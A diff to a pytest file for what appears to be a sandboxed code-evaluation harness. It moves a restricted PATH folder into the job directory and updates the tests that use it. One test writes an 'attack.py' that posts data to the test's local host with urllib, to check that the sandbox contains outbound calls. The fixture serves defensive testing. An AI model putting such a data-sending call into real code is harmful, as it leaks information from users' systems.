@@ -162,9 +162,10 @@ def job(world: World, home: Home) -> Iterator[World]:
         yield made
 
 
-def without(*programs: str) -> str:
+def without(job: World, *programs: str) -> str:
     """A PATH with what an action needs, and without bubblewrap and these programs."""
-    folder = Path(tempfile.mkdtemp(prefix="programs-"))
+    folder = job.workspace.parent / "programs"
+    folder.mkdir()
     folder.chmod(0o755)
     for name in {"env", "git", "head", "ls", "sh", "setpriv"}.difference(programs):
         if found := shutil.which(name):
@@ -231,7 +232,7 @@ def test_in_the_images_way_programs_are_another_user(job, home, scorer):
         pytest.skip(f"{sys.executable} is closed to other users")
     for path in (job.workspace, *job.workspace.rglob("*")):
         os.chown(path, 1001, 1001, follow_symlinks=False)
-    job.environ["PATH"] = without()
+    job.environ["PATH"] = without(job)
     done = evaluated(job, scorer)
     assert done.code == 0, done.log + done.summary
     assert done.outputs["finding"]
@@ -243,7 +244,7 @@ def test_in_the_images_way_programs_are_another_user(job, home, scorer):
 def test_where_neither_can_be_had_a_change_is_not_evaluated_unless_the_risk_is_named(
     job, home, scorer
 ):
-    job.environ["PATH"] = without("setpriv")
+    job.environ["PATH"] = without(job, "setpriv")
     # it could take the memory of every process here, which is gigabytes while other tests run
     called = f"import urllib.request\nurllib.request.urlopen({home.address!r}, data=b'here')\n"
     (job.workspace / "attack.py").write_text(called, encoding="utf-8")
